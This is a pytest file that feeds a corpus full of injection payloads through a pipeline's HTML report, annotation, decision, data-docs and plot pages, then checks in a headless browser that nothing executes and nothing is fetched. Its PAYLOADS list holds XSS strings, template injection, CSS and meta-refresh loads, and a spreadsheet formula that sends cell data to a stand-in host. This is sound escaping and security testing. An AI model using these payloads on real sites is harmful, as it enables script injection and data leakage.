"""Every page of a hostile corpus in a real browser: nothing of it runs, nothing is fetched."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from urllib.parse import urlsplit

import pandas as pd
import pytest

from components import frequencies, report, validate
from components._formats.corpus import write_corpus
from components._formats.page import read_figures, write_page
from tests.builders.judged import judged_findings
from tests.builders.params import stage_params
from tests.builders.report_inputs import corpus, write_inputs
from tests.components.conftest import CHROMIUM
from tests.components.test_report import DECISION, PARAMS, drift, outputs

sync_api = pytest.importorskip("playwright.sync_api", reason="playwright is not installed")
dvc_render = pytest.importorskip("dvc_render.vega", reason="dvc is not installed")
pytestmark = [
    pytest.mark.slow,
    pytest.mark.timeout(900),
    pytest.mark.skipif(not CHROMIUM.exists(), reason="chromium is not installed"),
]
# Each would say so by a dialog, by a title, or by asking a host that is not there.
PAYLOADS = (
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<!--<script>alert(3)",
    "--><img src=x onerror=alert(4)>",
    "\"'><svg onload=alert(5)>",
    "</style></textarea></title><iframe srcdoc='<script>parent.alert(6)</script>'></iframe>",
    "<link rel=stylesheet href=//evil.invalid/a.css><img src=https://evil.invalid/b.png>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<base href=https://evil.invalid/><form action=https://evil.invalid/><input autofocus "
    "onfocus=alert(7)>",
    "javascript:alert(8)//[x](javascript:alert(9))",
    "{{ 7 * 7 }}{% raw %}${alert(10)}`${alert(11)}`",
    "=HYPERLINK(\"https://evil.invalid/?\"&A1,\"x\")",
    "@import url(https://evil.invalid/c.css);x{background:url(//evil.invalid/d)}",
    "\u202e\u2066evil\u2069 <b>bold</b>\u200f",
    "&lt;script&gt;alert(12)&lt;/script&gt;&#60;script&#62;alert(13)&#60;/script&#62;",
)  # fmt: skip


def hostile(n_docs: int) -> pd.DataFrame:
    """A corpus with the payloads as ids, texts, labels, annotators, sources, and column names."""
    frame = corpus(n_docs, 24)
    of = [PAYLOADS[i % len(PAYLOADS)] for i in range(n_docs)]
    frame["id"] = [f"{payload} {i}" for i, payload in enumerate(of)]
    frame["text"] = [f"{payload} {text}" for payload, text in zip(of, frame["text"], strict=True)]
    frame["labels"] = [
        [*labels, payload] for labels, payload in zip(frame["labels"], of, strict=True)
    ]
    frame["annotator"], frame["source"] = of, of
    for i, payload in enumerate(PAYLOADS):
        frame[payload] = [PAYLOADS[(i + k) % 2] for k in range(n_docs)]
    return frame


def decision() -> dict[str, object]:
    """A decision whose every text is a payload."""
    every = " ".join(PAYLOADS)
    rules = [rule | {"reason": every, "slice": every} for rule in DECISION["rules"]]
    tags = {payload: payload for payload in PAYLOADS}
    return DECISION | {
        "summary": every, "rules": rules, "labels_added": list(PAYLOADS),
        "labels_removed": list(PAYLOADS), "labels_left_out": list(PAYLOADS),
        "labels_mapped": {payload: list(PAYLOADS) for payload in PAYLOADS},
        "challenger": {"version": every, "tags": tags},
    }  # fmt: skip


@pytest.fixture(scope="module")
def pages(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[Path]]:
    root = tmp_path_factory.mktemp("hostile")
    frame, inputs, out = hostile(600), root / "in", outputs(root / "out")
    given = write_inputs(inputs, frame)
    given["findings"].write_text(json.dumps(judged_findings(frame, PAYLOADS)), encoding="utf-8")
    report.run(**given, **out, params=PARAMS)
    moved = drift() | {"alarms": list(PAYLOADS), "champion": PAYLOADS[0]}
    figures = read_figures(out["figures"])
    page = root / "decision.html"
    write_page(out["details"], page, figures=figures, decision=decision(), drift=moved)
    (root / "data").mkdir()
    write_corpus(frame, root / "data" / "corpus.parquet")
    docs = root / "data_docs"
    limits = {"quarantine_share": 1.0}
    validate.run(
        data=root / "data", corpus=root / "corpus.parquet", quarantine=root / "quarantine.parquet",
        findings=root / "findings.json", data_docs=docs, suspects=root / "suspects.csv",
        choices=root / "choices.json", label_weights=root / "label_weights.parquet",
        params=stage_params(validate.Params, "validate", limits),
    )  # fmt: skip
    return {
        "report": [out["page"]],
        "annotation": [out["annotation_page"]],
        "decision": [root / "decision.html"],
        "data docs": sorted(docs.rglob("*.html")),
        "plots": [plots(root)],
    }


def plots(root: Path) -> Path:
    """The page of `dvc plots show`, without the library that it loads from elsewhere."""
    counts = root / "labels.csv"
    rows = [(len(PAYLOADS) - i, label, "TAIL") for i, label in enumerate(PAYLOADS)]
    frequencies._write_plot(counts, rows)
    drawn = {"filename": "labels.csv", "field": "documents"}
    with counts.open(newline="", encoding="utf-8") as file:
        points = [row | drawn | {"rev": "workspace"} for row in csv.DictReader(file)]
    renderer = dvc_render.VegaRenderer(
        points, "labels", x="rank", y="documents", anchors_y_definitions=[drawn]
    )
    page = root / "plots.html"
    page.write_text(
        f"<!doctype html><meta charset=utf-8><body>{renderer.generate_html()}", encoding="utf-8"
    )
    return page


def seen(browser: sync_api.Browser, page: Path) -> tuple[list[str], set[str], str]:
    """Dialogs, the hosts that were asked, and the text of the page."""
    dialogs: list[str] = []
    hosts: set[str] = set()
    opened = browser.new_page()
    opened.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    opened.on("request", lambda request: hosts.add(urlsplit(request.url).netloc))
    opened.route("http*://**", lambda route: route.abort())
    opened.goto(page.as_uri())
    opened.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
    opened.mouse.wheel(0, 100_000)
    opened.wait_for_timeout(500)
    text = opened.inner_text("body")
    opened.close()
    return dialogs, hosts, text


@pytest.mark.parametrize("name", ["report", "annotation", "decision", "data docs", "plots"])
def test_nothing_of_a_hostile_corpus_runs_and_nothing_is_fetched(
    browser: sync_api.Browser, pages: dict[str, list[Path]], name: str
):
    assert pages[name]
    for page in pages[name]:
        dialogs, hosts, text = seen(browser, page)
        assert dialogs == [] and hosts <= {""}, page
        if name in ("report", "annotation", "decision"):  # it is there, as text
            assert "alert(2)" in text and "https://evil.invalid" in text
        if name == "plots":
            assert "alert(2)" in page.read_text(encoding="utf-8")


def test_this_browser_would_notice(browser: sync_api.Browser, tmp_path: Path):
    page = tmp_path / "bad.html"
    page.write_text(f"<!doctype html><body>{PAYLOADS[0]}{PAYLOADS[6]}", encoding="utf-8")
    dialogs, hosts, _ = seen(browser, page)
    assert "1" in dialogs and "evil.invalid" in hosts
